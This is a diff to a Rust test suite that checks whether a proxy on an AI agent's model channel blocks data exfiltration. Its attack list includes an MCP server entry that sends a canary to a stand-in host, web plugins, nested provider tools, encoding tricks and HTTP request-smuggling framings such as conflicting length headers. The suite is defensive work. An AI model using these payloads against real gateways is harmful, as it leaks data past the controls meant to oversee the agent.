@@ -71,9 +71,26 @@ impl Attacks {
     /// Adds `POST path` with `headers` (a `Content-Type: application/json` and a
     /// `Content-Length` unless given) and `body`, `{C}` replaced in both.
     fn post(&mut self, name: &str, path: &str, headers: &[&str], body: &[u8], expect: Expect) {
+        self.post_encoded(name, path, headers, body, <[u8]>::to_vec, expect);
+    }
+
+    /// [`Attacks::post`] with the body, its canary in place, passed through `encode` (chunked,
+    /// gzip) before it is sent.
+    fn post_encoded(
+        &mut self,
+        name: &str,
+        path: &str,
+        headers: &[&str],
+        body: &[u8],
+        encode: fn(&[u8]) -> Vec<u8>,
+        expect: Expect,
+    ) {
         let name = format!("{:03}-{name}", self.list.len());
         let mark = self.mark(&name);
-        let mut head = format!("POST {path} HTTP/1.1\r\nHost: 127.0.0.1:4141\r\nConnection: close\r\nAuthorization: Bearer agent-placeholder\r\n");
+        let mut head = format!(
+            "POST {} HTTP/1.1\r\nHost: 127.0.0.1:4141\r\nConnection: close\r\nAuthorization: Bearer agent-placeholder\r\n",
+            path.replace("{C}", &mark)
+        );
         let named = |wanted: &str| {
             headers
                 .iter()
@@ -82,9 +99,11 @@ impl Attacks {
         if !named("content-type:") {
             head.push_str("Content-Type: application/json\r\n");
         }
-        let body = String::from_utf8_lossy(body)
-            .replace("{C}", &mark)
-            .into_bytes();
+        let body = encode(
+            String::from_utf8_lossy(body)
+                .replace("{C}", &mark)
+                .as_bytes(),
+        );
         if !named("content-length:") && !named("transfer-encoding:") {
             head.push_str(&format!("Content-Length: {}\r\n", body.len()));
         }
@@ -125,10 +144,6 @@ fn refused(field: &'static str, rule: &'static str) -> Expect {
 
 /// A remote MCP server whose URL and headers carry the canary out.
 const MCP: &str = r#"{"type":"mcp","server_label":"c","server_url":"https://x.invalid/c?d={C}","headers":{"X-Data":"{C}"},"require_approval":"never"}"#;
-
-fn passes(_: &ModelRequest, _: &str) -> Result<(), String> {
-    Ok(())
-}
 
 /// The ways out the issue lists: every provider-side tool on each served API, in mixed case, with
 /// duplicated keys and nested in `tool_choice`, `include` and namespaces; the plug-in fields; a
@@ -190,7 +205,9 @@ fn listed(attacks: &mut Attacks) {
     );
     attacks.responses(
         "allowed-tools-nesting-mcp",
-        &format!(",\"tool_choice\":{{\"type\":\"allowed_tools\",\"mode\":\"auto\",\"tools\":[{MCP}]}}"),
+        &format!(
+            ",\"tool_choice\":{{\"type\":\"allowed_tools\",\"mode\":\"auto\",\"tools\":[{MCP}]}}"
+        ),
         refused("tool_choice.tools[0].type", "provider_tool"),
     );
     attacks.responses(
@@ -252,7 +269,16 @@ fn listed(attacks: &mut Attacks) {
             refused("model", rule),
         );
     }
-    for field in ["transforms", "provider", "models", "route", "fallbacks", "api_base", "extra_body", "mock_response"] {
+    for field in [
+        "transforms",
+        "provider",
+        "models",
+        "route",
+        "fallbacks",
+        "api_base",
+        "extra_body",
+        "mock_response",
+    ] {
         attacks.chat(
             "unknown-field",
             &format!(",\"{field}\":\"{{C}}\""),
@@ -260,30 +286,31 @@ fn listed(attacks: &mut Attacks) {
         );
     }
     // A gzip body whose JSON holds an MCP server: refused by its encoding, before any decoding.
-    let inner = format!(
-        "{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\",\"tools\":[{MCP}]}}"
-    );
-    attacks.post(
+    let inner = format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\",\"tools\":[{MCP}]}}");
+    attacks.post_encoded(
         "gzip",
         "/v1/responses",
         &["Content-Encoding: gzip"],
-        &gzip(inner.as_bytes()),
+        inner.as_bytes(),
+        gzip,
         Expect::Status(415),
     );
     // Chunked: the body is read whole, then checked like any other.
-    attacks.post(
+    attacks.post_encoded(
         "chunked-mcp",
         "/v1/responses",
         &["Transfer-Encoding: chunked"],
-        &chunked(inner.as_bytes()),
+        inner.as_bytes(),
+        chunked,
         refused("tools[0].type", "provider_tool"),
     );
     let plain = format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\"}}");
-    attacks.post(
+    attacks.post_encoded(
         "chunked-plain",
         "/v1/responses",
         &["Transfer-Encoding: chunked"],
-        &chunked(plain.as_bytes()),
+        plain.as_bytes(),
+        chunked,
         Expect::Reaches(|seen, mark| {
             (seen.body["input"] == mark)
                 .then_some(())
@@ -397,7 +424,13 @@ fn beyond(attacks: &mut Attacks) {
     ] {
         let expect = refused(field, rule);
         let body = format!("{{\"model\":\"{MODEL}\",\"input\":[{item}]}}");
-        attacks.post("responses-item", "/v1/responses", &[], body.as_bytes(), expect);
+        attacks.post(
+            "responses-item",
+            "/v1/responses",
+            &[],
+            body.as_bytes(),
+            expect,
+        );
     }
     for (part, field) in [
         (
@@ -425,7 +458,13 @@ fn beyond(attacks: &mut Attacks) {
             "{{\"model\":\"{MODEL}\",\"messages\":[{{\"role\":\"user\",\"content\":[{part}]}}]}}"
         );
         let expect = refused(field, "remote_url");
-        attacks.post("chat-part", "/v1/chat/completions", &[], body.as_bytes(), expect);
+        attacks.post(
+            "chat-part",
+            "/v1/chat/completions",
+            &[],
+            body.as_bytes(),
+            expect,
+        );
     }
     // A stored prompt: a configuration of its own (tools included) and variables the provider
     // fetches.
@@ -465,8 +504,10 @@ fn beyond(attacks: &mut Attacks) {
         "query-model",
         "/v1/chat/completions?model=o1-pro&tag={C}",
         &[],
-        format!("{{\"model\":\"{MODEL}\",\"messages\":[{{\"role\":\"user\",\"content\":\"hi\"}}]}}")
-            .as_bytes(),
+        format!(
+            "{{\"model\":\"{MODEL}\",\"messages\":[{{\"role\":\"user\",\"content\":\"hi\"}}]}}"
+        )
+        .as_bytes(),
         refused("(query string)", "undocumented_field"),
     );
     attacks.post(
@@ -554,45 +595,53 @@ fn beyond(attacks: &mut Attacks) {
         refused("(body)", "not_json"),
     );
     let deep = format!(",\"metadata\":{}{}", "[".repeat(300), "]".repeat(300));
-    attacks.chat(
-        "deeply-nested",
-        &deep,
-        refused("(body)", "not_json"),
-    );
+    attacks.chat("deeply-nested", &deep, refused("(body)", "not_json"));
     // Encodings: every one but identity is refused, stacked or alone; a second header naming gzip
     // behind an `identity` leaves the compressed bytes to the policy, which reads no JSON there.
     let inner = format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\",\"tools\":[{MCP}]}}");
-    for encoding in ["deflate", "br", "zstd", "gzip, identity", "identity, gzip", "x-gzip", "GZIP"] {
-        attacks.post(
+    for encoding in [
+        "deflate",
+        "br",
+        "zstd",
+        "gzip, identity",
+        "identity, gzip",
+        "x-gzip",
+        "GZIP",
+    ] {
+        attacks.post_encoded(
             "content-encoding",
             "/v1/responses",
             &[&format!("Content-Encoding: {encoding}")],
-            &gzip(inner.as_bytes()),
+            inner.as_bytes(),
+            gzip,
             Expect::Status(415),
         );
     }
-    attacks.post(
+    attacks.post_encoded(
         "content-encoding-twice",
         "/v1/responses",
         &["Content-Encoding: identity", "Content-Encoding: gzip"],
-        &gzip(inner.as_bytes()),
+        inner.as_bytes(),
+        gzip,
         refused("(body)", "not_json"),
     );
     // HTTP framing: both lengths, an encoding under the chunking, 100-continue, HTTP/1.0, an
     // upgrade to h2c, HTTP/2 with prior knowledge, pipelining.
     let hidden = format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\",\"tools\":[{MCP}]}}");
-    attacks.post(
+    attacks.post_encoded(
         "length-and-chunked",
         "/v1/responses",
         &["Content-Length: 4", "Transfer-Encoding: chunked"],
-        &chunked(hidden.as_bytes()),
+        hidden.as_bytes(),
+        chunked,
         Expect::Nothing(Some(("tools[0].type", "provider_tool"))),
     );
-    attacks.post(
+    attacks.post_encoded(
         "gzip-transfer-coding",
         "/v1/responses",
         &["Transfer-Encoding: gzip, chunked"],
-        &chunked(&gzip(hidden.as_bytes())),
+        hidden.as_bytes(),
+        |body| chunked(&gzip(body)),
         Expect::Nothing(Some(("(body)", "not_json"))),
     );
     attacks.post(
@@ -612,7 +661,11 @@ fn beyond(attacks: &mut Attacks) {
     attacks.post(
         "upgrade-h2c",
         "/v1/responses",
-        &["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"],
+        &[
+            "Connection: Upgrade, HTTP2-Settings",
+            "Upgrade: h2c",
+            "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
+        ],
         hidden.as_bytes(),
         refused("tools[0].type", "provider_tool"),
     );
@@ -622,7 +675,8 @@ fn beyond(attacks: &mut Attacks) {
         Expect::Nothing(None),
     );
     let first = format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\",\"tools\":[{MCP}]}}");
-    let second = format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\",\"plugins\":[{{\"id\":\"web\"}}]}}");
+    let second =
+        format!("{{\"model\":\"{MODEL}\",\"input\":\"{{C}}\",\"plugins\":[{{\"id\":\"web\"}}]}}");
     attacks.raw(
         "pipelined",
         &format!(
@@ -664,7 +718,13 @@ fn beyond(attacks: &mut Attacks) {
             },
         );
     }
-    attacks.post("models-by-post", "/v1/models", &[], plain.as_bytes(), Expect::Status(404));
+    attacks.post(
+        "models-by-post",
+        "/v1/models",
+        &[],
+        plain.as_bytes(),
+        Expect::Status(404),
+    );
     attacks.raw(
         "models-with-body",
         &format!(
@@ -723,14 +783,16 @@ fn fix_lengths(request: &[u8]) -> Vec<u8> {
 /// The real clients' captured requests: each passes unchanged in meaning, but the default Codex
 /// configuration's web search, which is refused.
 fn real_clients(attacks: &mut Attacks) {
-    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/model-requests");
+    let dir =
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/model-requests");
     for name in [
         "openhands-1.16-chat-completions.json",
         "codex-0.163-responses-turn-1.json",
         "codex-0.163-responses-turn-2.json",
         "codex-0.163-responses-default-web-search.json",
     ] {
-        let fixture: Value = serde_json::from_slice(&std::fs::read(dir.join(name)).unwrap()).unwrap();
+        let fixture: Value =
+            serde_json::from_slice(&std::fs::read(dir.join(name)).unwrap()).unwrap();
         let mut body = fixture["body"].clone();
         // The canary rides in a field every one of these clients sends.
         let path = fixture["path"].as_str().unwrap().to_owned();
@@ -742,8 +804,11 @@ fn real_clients(attacks: &mut Attacks) {
             .filter_map(|pair| {
                 let name = pair[0].as_str()?;
                 let value = pair[1].as_str()?;
-                (!matches!(name, "authorization" | "connection" | "host" | "content-length"))
-                    .then(|| format!("{name}: {value}"))
+                (!matches!(
+                    name,
+                    "authorization" | "connection" | "host" | "content-length"
+                ))
+                .then(|| format!("{name}: {value}"))
             })
             .collect();
         let headers: Vec<&str> = headers.iter().map(String::as_str).collect();
@@ -764,7 +829,8 @@ fn real_clients(attacks: &mut Attacks) {
 
 /// The upstream received the fixture's body as sent (compared as JSON, the canary in place).
 fn same_meaning(seen: &ModelRequest, mark: &str) -> Result<(), String> {
-    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/model-requests");
+    let dir =
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/model-requests");
     let wanted = std::fs::read_dir(&dir)
         .unwrap()
         .filter_map(|entry| {
@@ -835,7 +901,10 @@ fn seen_text(request: &ModelRequest) -> String {
 fn no_way_out_through_the_model_channel_reaches_the_upstream() {
     let runtime = serving_runtime();
     let upstream = runtime
-        .block_on(ScriptedModel::serve(SocketAddr::from((Ipv4Addr::LOCALHOST, 0))))
+        .block_on(ScriptedModel::serve(SocketAddr::from((
+            Ipv4Addr::LOCALHOST,
+            0,
+        ))))
         .unwrap();
     let mut attacks = Attacks {
         canary: format!("rt{}", uuid::Uuid::new_v4().simple()),
@@ -884,8 +953,25 @@ fn no_way_out_through_the_model_channel_reaches_the_upstream() {
             .iter()
             .filter(|request| seen_text(request).contains(&mark))
             .collect();
-        let reply = replies.get(attack.name.as_str()).copied().unwrap_or("(no line)");
-        let statuses = reply.split(' ').next().unwrap_or_default();
+        let reply = replies
+            .get(attack.name.as_str())
+            .copied()
+            .unwrap_or("(no line)");
+        // Final statuses only: a `100 Continue` is not an answer.
+        let statuses = reply
+            .split(' ')
+            .next()
+            .unwrap_or_default()
+            .split(',')
+            .filter(|status| !status.starts_with('1'))
+            .collect::<Vec<_>>()
+            .join(",");
+        // Shown with --nocapture: what the agent read back for each way out.
+        eprintln!(
+            "{} -> {}",
+            attack.name,
+            reply.chars().take(240).collect::<String>()
+        );
         match &attack.expect {
             Expect::Reaches(check) => match reached.as_slice() {
                 [seen] => {
@@ -907,7 +993,9 @@ fn no_way_out_through_the_model_channel_reaches_the_upstream() {
             Expect::Policy(wanted) => {
                 let all_400 = statuses.split(',').count() == wanted.len()
                     && statuses.split(',').all(|status| status == "400");
-                if !all_400 || !reply.contains(wanted[0].0) || !reply.contains("stet_request_policy")
+                if !all_400
+                    || !reply.contains(wanted[0].0)
+                    || !reply.contains("stet_request_policy")
                 {
                     broken.push(format!("{}: the agent read {reply}", attack.name));
                 }
@@ -936,7 +1024,10 @@ fn no_way_out_through_the_model_channel_reaches_the_upstream() {
         }
     }
     let oversize = format!("{}.zz-oversize.", attacks.canary);
-    if received.iter().any(|request| seen_text(request).contains(&oversize)) {
+    if received
+        .iter()
+        .any(|request| seen_text(request).contains(&oversize))
+    {
         broken.push("a body past the cap reached the upstream".to_owned());
     }
 
